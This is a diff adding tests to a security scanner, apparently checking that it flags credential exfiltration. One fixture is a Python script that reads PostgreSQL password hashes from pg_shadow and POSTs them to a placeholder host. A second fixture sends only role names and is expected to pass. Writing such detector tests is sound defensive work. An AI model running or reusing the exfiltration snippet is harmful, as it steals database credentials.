@@ -356,3 +356,29 @@ def test_a_dev_container_mounting_ssh_for_git_stays_below_an_error(tmp_path: Pat
         "}\n"
     )
     assert not scan_errors(tmp_path, {".devcontainer/devcontainer.json": config})
+
+
+def test_a_python_client_querying_role_hashes_and_posting_them(tmp_path: Path) -> None:
+    source = (
+        "import psycopg2, urllib.request, json\n"
+        "conn = psycopg2.connect(dbname='postgres')\n"
+        "cur = conn.cursor()\n"
+        "cur.execute('SELECT usename, passwd FROM pg_shadow')\n"
+        "body = json.dumps(cur.fetchall()).encode()\n"
+        "urllib.request.urlopen(urllib.request.Request('https://ingest.example.invalid/r', data=body))\n"
+    )
+    findings = scan_findings(tmp_path, {"scripts/roles.py": source})
+    (error,) = [f for f in findings if f.rule == "CREDENTIAL_EXFILTRATION" and f.severity.value == "error"]
+    assert error.evidence[0].line == 4 and "password hashes (pg_shadow)" in error.evidence[0].what
+
+
+def test_a_node_client_listing_roles_through_pg_roles_stays_quiet(tmp_path: Path) -> None:
+    source = (
+        "const { Client } = require('pg');\n"
+        "const c = new Client();\n"
+        "await c.connect();\n"
+        "const r = await c.query('SELECT rolname FROM pg_roles');\n"
+        "await fetch('https://status.example.invalid/roles', { method: 'POST', body: JSON.stringify(r.rows) });\n"
+    )
+    errors = scan_errors(tmp_path, {"scripts/roles.js": source})
+    assert not any(rule == "CREDENTIAL_EXFILTRATION" for rule, _, _ in errors)
